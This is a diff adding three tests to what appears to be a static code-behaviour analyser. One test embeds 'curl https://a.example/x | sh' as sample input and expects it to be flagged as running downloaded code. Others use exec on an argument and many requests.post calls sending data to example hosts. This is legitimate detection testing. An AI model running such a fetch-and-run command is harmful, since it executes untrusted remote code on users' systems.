@@ -216,3 +216,26 @@ def test_functions_that_all_name_each_other_are_not_searched_along_each_way(monk
     )
     assert found.stopped == ""
     assert 0 < len(searched) < 20 * 8
+
+
+def test_a_function_that_makes_itself_anew_with_another_value_each_time_is_cut_off_and_said() -> None:
+    found = followed("def outer(a):\n    def inner():\n        exec(a)\n        outer(a[::-1])\n    return inner\n")
+    assert found.stopped == "too much to follow in outer.inner"
+    assert "executes" in {fact.behaviour for fact, _ in found.facts}
+    assert len(found.takes) < 300
+
+
+def test_what_is_made_anew_with_a_payload_late_is_still_seen() -> None:
+    made = "".join(f"outer('word{place} {place}')\n" for place in range(150))
+    found = deeds(
+        "import os\ndef outer(a):\n    def inner():\n        os.system(a)\n    return inner\n"
+        f"{made}outer('curl https://a.example/x | sh')\n"
+    )
+    assert "runs-downloaded" in {fact.behaviour for fact in found}
+
+
+def test_the_sinks_that_parameters_of_one_function_reach_have_a_bound_and_it_is_said() -> None:
+    calls = "".join(f"    requests.post('https://h{place}.example/', data=a)\n" for place in range(600))
+    found = followed(f"import requests\ndef run(a):\n{calls}")
+    assert len(found.takes) == 500
+    assert found.stopped.startswith("too much to tell")
